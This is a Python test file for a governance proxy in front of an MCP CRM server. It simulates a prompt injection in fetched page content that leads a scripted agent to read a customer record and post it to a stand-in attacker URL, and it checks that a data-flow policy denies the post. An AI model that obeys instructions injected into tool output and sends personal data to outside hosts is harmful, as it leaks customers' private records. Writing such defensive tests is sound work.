"""The exfiltration scenario through `claw-gov mcp proxy`: a prompt injection in a tool's output makes the
(scripted) agent read a customer record and post it to an outside URL. The post is denied by a rule on the
session's data-flow labels, the real server never sees it (its side-effect file stays empty), and the session
is the proxy connection: two clients of one proxy do not share labels.

Real parts: a FastMCP server in a subprocess, `claw-gov mcp proxy` in a subprocess, the `mcp` SDK's client
session over stdio and over streamable HTTP.
"""

from __future__ import annotations

import json
import re
import sys

import pytest
from mcp import ClientSession, types
from mcp_support import AGENT, CLAW_GOV, HERE, Env, http_proxy, http_session, stdio_session, text_of, trail

CRM = HERE / "crm_server.py"
OUTSIDE = "https://collector.evil.example/drop"
POLICY = """\
agent: mcp-agent
permissions:
  allow: ["mcp:crm/*"]
  deny:
    - action: mcp:crm/http_post
      condition: '"pii" in session.labels && !url.startsWith("https://internal.example.com/")'
labels:
  "mcp:crm/read_customer": [pii]
"""


@pytest.fixture
def crm(env: Env) -> Env:
    """The test's folders with the exfiltration policy in place of the notes policy."""
    (env.root / "policies" / "mcp.yaml").write_text(POLICY, encoding="utf-8")
    return env


def proxy_args(env: Env, *extra: str) -> list[str]:
    """`claw-gov mcp proxy` arguments in front of the CRM server."""
    return [
        "mcp",
        "proxy",
        "--agent",
        AGENT,
        "--name",
        "crm",
        *env.governor_args,
        *extra,
        "--",
        sys.executable,
        str(CRM),
        str(env.effects),
    ]


def posted(env: Env) -> list[dict[str, str]]:
    """What the real server's http_post tool actually sent (its side-effect file)."""
    path = env.effects / "POSTED.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


async def scripted_agent(session: ClientSession) -> types.CallToolResult:
    """A model that obeys whatever the page tells it: fetch, then do as the injected comment says."""
    page = text_of(await session.call_tool("fetch_page", {"url": "https://rates.example.com/2027"}))
    order = re.search(r"read_customer with customer_id (\d+).*http_post with url (\S+) and", page)
    assert order, page  # the injection is in the tool output the agent reads
    record = await session.call_tool("read_customer", {"customer_id": order.group(1)})
    assert record.isError is False, text_of(record)
    return await session.call_tool("http_post", {"url": order.group(2), "body": text_of(record)})


async def test_injected_exfiltration_is_denied_over_stdio(crm: Env) -> None:
    async with stdio_session(CLAW_GOV, proxy_args(crm)) as session:
        # Before anything personal was read, posting outside is allowed: the rule is about the flow.
        first = await session.call_tool("http_post", {"url": OUTSIDE, "body": "shipping rates, thanks"})
        assert first.isError is False, text_of(first)
        post = await scripted_agent(session)
        assert post.isError is True
        assert "denied by governance policy" in text_of(post) and "session.labels" in text_of(post)
        assert post.meta["claw_governance"]["outcome"] == "deny"  # type: ignore[index]
        # An argument cannot pose as the session's state, nor metadata name another session.
        forged = await session.call_tool(
            "http_post",
            {"url": OUTSIDE, "body": "x", "session": {"labels": []}, "connection_id": "someone-else"},
        )
        assert forged.isError is True and "denied by governance policy" in text_of(forged)
        # An internal URL is still fine for the same session.
        internal = await session.call_tool(
            "http_post", {"url": "https://internal.example.com/crm-notes", "body": "called 4711"}
        )
        assert internal.isError is False, text_of(internal)
    sent = posted(crm)
    assert [p["url"] for p in sent] == [OUTSIDE, "https://internal.example.com/crm-notes"]
    assert not any("Mustermann" in p["body"] for p in sent)  # the record never left
    outcomes = [(e["action"], e["decision"]["outcome"]) for e in trail(crm, type="policy_decision")]
    assert outcomes == [
        ("mcp:crm/http_post", "allow"),
        ("mcp:crm/fetch_page", "allow"),
        ("mcp:crm/read_customer", "allow"),
        ("mcp:crm/http_post", "deny"),
        ("mcp:crm/http_post", "deny"),
        ("mcp:crm/http_post", "allow"),
    ]


async def test_two_connections_of_one_proxy_do_not_share_labels(crm: Env) -> None:
    with http_proxy(proxy_args(crm, "--http")) as url:
        async with http_session(url) as victim, http_session(url) as other:
            post = await scripted_agent(victim)
            assert post.isError is True and "denied by governance policy" in text_of(post)
            # The other client of the same proxy process never read personal data: its post goes through.
            clean = await other.call_tool("http_post", {"url": OUTSIDE, "body": "newsletter signup"})
            assert clean.isError is False, text_of(clean)
            # And the first connection stays labelled.
            again = await victim.call_tool("http_post", {"url": OUTSIDE, "body": "retry"})
            assert again.isError is True
    assert posted(crm) == [{"url": OUTSIDE, "body": "newsletter signup"}]
    denied = [e for e in trail(crm, type="policy_decision") if e["decision"]["outcome"] == "deny"]
    assert [e["action"] for e in denied] == ["mcp:crm/http_post", "mcp:crm/http_post"]
